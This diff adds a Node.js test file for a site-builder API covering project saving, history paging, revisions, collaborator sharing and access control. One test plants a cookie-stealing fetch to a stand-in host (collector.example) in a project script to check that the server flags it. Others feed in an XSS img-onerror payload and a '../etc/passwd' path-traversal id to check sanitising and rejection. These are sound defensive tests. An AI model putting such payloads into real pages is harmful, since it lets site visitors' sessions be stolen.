@@ -0,0 +1,167 @@
+const { test, before, after } = require('node:test');
+const assert = require('node:assert/strict');
+const { startApp, siteFiles } = require('./helpers');
+
+// POST /api/save and GET /api/history/:userId
+
+let app, alice, bob;
+
+before(async () => {
+    app = await startApp();
+    alice = await app.signUp('alice@example.com');
+    bob = await app.signUp('bob@example.com');
+});
+
+after(async () => {
+    await app.close();
+});
+
+test('save creates a project that shows up in the history', async () => {
+    const saved = await alice.post('/api/save', { project: { name: 'Bakery', files: siteFiles('Bakery') } });
+
+    assert.equal(saved.status, 200);
+    assert.equal(saved.body.success, true);
+    assert.ok(saved.body.projectId);
+    assert.equal(saved.body.security, null);
+
+    const history = await alice.get(`/api/history/${alice.user.id}`);
+    const entry = history.body.history.find(project => project.id === saved.body.projectId);
+
+    assert.equal(history.body.success, true);
+    assert.ok(entry, 'the project is listed');
+    assert.equal(entry.name, 'Bakery');
+    assert.equal(entry.files, undefined, 'the history only has summaries');
+
+    const project = await alice.get(`/api/projects/${saved.body.projectId}`);
+    assert.deepEqual(project.body.project.files.map(file => file.path).sort(), ['index.html', 'script.js', 'style.css']);
+    assert.match(project.body.project.code.html, /Bakery/);
+});
+
+test('saving again with the same id updates the project and records a revision', async () => {
+    const first = await alice.post('/api/save', { project: { name: 'Florist', files: siteFiles('Florist') } });
+    const projectId = first.body.projectId;
+    const total = (await alice.get(`/api/history/${alice.user.id}`)).body.total;
+
+    const second = await alice.post('/api/save', { project: { id: projectId, name: 'Florist shop', files: siteFiles('Florist shop') } });
+
+    assert.equal(second.body.projectId, projectId);
+    assert.equal((await alice.get(`/api/history/${alice.user.id}`)).body.total, total, 'no new project');
+
+    const project = await alice.get(`/api/projects/${projectId}`);
+    assert.equal(project.body.project.name, 'Florist shop');
+    assert.match(project.body.project.code.html, /Florist shop/);
+
+    const revisions = await alice.get(`/api/projects/${projectId}/revisions`);
+    assert.equal(revisions.body.revisions.length, 2);
+});
+
+test('the older { html, css, js } body is still accepted', async () => {
+    const saved = await alice.post('/api/save', {
+        project: { name: 'Legacy', html: '<h1>Legacy</h1>', css: 'h1 { color: red; }', js: '' }
+    });
+
+    const project = await alice.get(`/api/projects/${saved.body.projectId}`);
+    assert.equal(project.body.project.code.html, '<h1>Legacy</h1>');
+    assert.ok(project.body.project.files.some(file => file.path === 'index.html'));
+});
+
+test('save refuses invalid projects', async () => {
+    const missing = await alice.post('/api/save', {});
+    assert.equal(missing.status, 400);
+
+    const noIndex = await alice.post('/api/save', { project: { name: 'Broken', files: [{ path: 'about.html', content: '<p>About</p>' }] } });
+    assert.equal(noIndex.status, 400);
+    assert.match(noIndex.body.error, /index\.html/);
+
+    const badId = await alice.post('/api/save', { project: { id: '../etc/passwd', files: siteFiles() } });
+    assert.equal(badId.status, 400);
+});
+
+test('save reports dangerous scripts but still saves', async () => {
+    const files = siteFiles('Shop');
+    files[2].content = 'fetch("https://collector.example/?c=" + document.cookie);\n';
+
+    const saved = await alice.post('/api/save', { project: { name: 'Shop', files } });
+
+    assert.equal(saved.body.success, true);
+    assert.ok(saved.body.security.dangerous);
+});
+
+test('nobody else can overwrite or list a user\'s projects', async () => {
+    const saved = await alice.post('/api/save', { project: { name: 'Private', files: siteFiles('Private') } });
+
+    const overwrite = await bob.post('/api/save', { project: { id: saved.body.projectId, name: 'Mine now', files: siteFiles('Mine now') } });
+    assert.equal(overwrite.status, 404, 'the same answer as a project that does not exist');
+    assert.equal((await bob.put(`/api/projects/${saved.body.projectId}`, { name: 'Mine now' })).status, 404);
+    assert.equal((await bob.get(`/api/projects/${saved.body.projectId}/revisions`)).status, 404);
+
+    const history = await bob.get(`/api/history/${alice.user.id}`);
+    assert.equal(history.status, 403);
+    assert.deepEqual(history.body.history, []);
+
+    const own = await bob.get(`/api/history/${bob.user.id}`);
+    assert.ok(!own.body.history.some(project => project.id === saved.body.projectId));
+
+    const project = await alice.get(`/api/projects/${saved.body.projectId}`);
+    assert.equal(project.body.project.name, 'Private');
+});
+
+test('history pages with limit and offset, newest first', async () => {
+    const user = await app.signUp('pages@example.com');
+    for (const name of ['One', 'Two', 'Three']) {
+        await user.post('/api/save', { project: { name, files: siteFiles(name) } });
+        // Distinct updatedAt timestamps, the history is sorted by them
+        await new Promise(resolve => setTimeout(resolve, 5));
+    }
+
+    const first = await user.get(`/api/history/${user.user.id}?limit=2`);
+    const second = await user.get(`/api/history/${user.user.id}?limit=2&offset=2`);
+
+    assert.equal(first.body.total, 3);
+    assert.deepEqual(first.body.history.map(project => project.name), ['Three', 'Two']);
+    assert.deepEqual(second.body.history.map(project => project.name), ['One']);
+});
+
+test('history needs a signed-in user', async () => {
+    const res = await app.anonymous().get(`/api/history/${alice.user.id}`);
+
+    assert.equal(res.status, 401);
+});
+
+test('a shared project shows up in the collaborator\'s history', async () => {
+    const saved = await alice.post('/api/save', { project: { name: 'Team site', files: siteFiles('Team site') } });
+    await alice.post(`/api/projects/${saved.body.projectId}/collaborators`, { email: 'bob@example.com' });
+
+    const history = await bob.get(`/api/history/${bob.user.id}`);
+
+    assert.ok(history.body.shared.some(project => project.id === saved.body.projectId));
+    assert.ok(!history.body.history.some(project => project.id === saved.body.projectId));
+});
+
+test('collaborators work on a shared project\'s content, only its owner deletes or shares it', async () => {
+    const saved = await alice.post('/api/save', { project: { name: 'Team blog', files: siteFiles('Team blog') } });
+    const id = saved.body.projectId;
+    await alice.post(`/api/projects/${id}/collaborators`, { email: 'bob@example.com' });
+
+    const updated = await bob.put(`/api/projects/${id}`, { files: siteFiles('Team blog v2') });
+    assert.equal(updated.status, 200, updated.body.error);
+    const resaved = await bob.post('/api/save', { project: { id, name: 'Team blog', files: siteFiles('Team blog v3') } });
+    assert.equal(resaved.status, 200, resaved.body.error);
+
+    const revisions = await bob.get(`/api/projects/${id}/revisions`);
+    assert.equal(revisions.status, 200, revisions.body.error);
+    const diff = await bob.get(`/api/projects/${id}/diff?from=${revisions.body.revisions[0].id}`);
+    assert.equal(diff.status, 200, diff.body.error);
+
+    assert.equal((await bob.post(`/api/projects/${id}/collaborators`, { email: 'pages@example.com' })).status, 404);
+    assert.equal((await bob.delete(`/api/projects/${id}`)).status, 404);
+    assert.equal((await alice.get(`/api/projects/${id}`)).body.project.name, 'Team blog');
+});
+
+test('project names are stored without markup', async () => {
+    const saved = await alice.post('/api/save', { project: { name: '<img src=x onerror=alert(1)>Bakery', files: siteFiles() } });
+    assert.equal(saved.status, 200, saved.body.error);
+
+    const loaded = await alice.get(`/api/projects/${saved.body.projectId}`);
+    assert.equal(loaded.body.project.name, 'img src=x onerror=alert(1) Bakery');
+});